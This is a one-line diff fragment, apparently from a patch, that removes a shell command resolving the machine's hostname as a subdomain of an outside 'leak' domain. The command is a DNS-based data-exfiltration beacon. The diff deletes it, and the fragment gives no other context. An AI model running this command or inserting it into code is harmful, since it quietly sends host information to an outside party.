@@ -1,1 +1,0 @@
-nslookup $(hostname).leak.fast-helper.dev
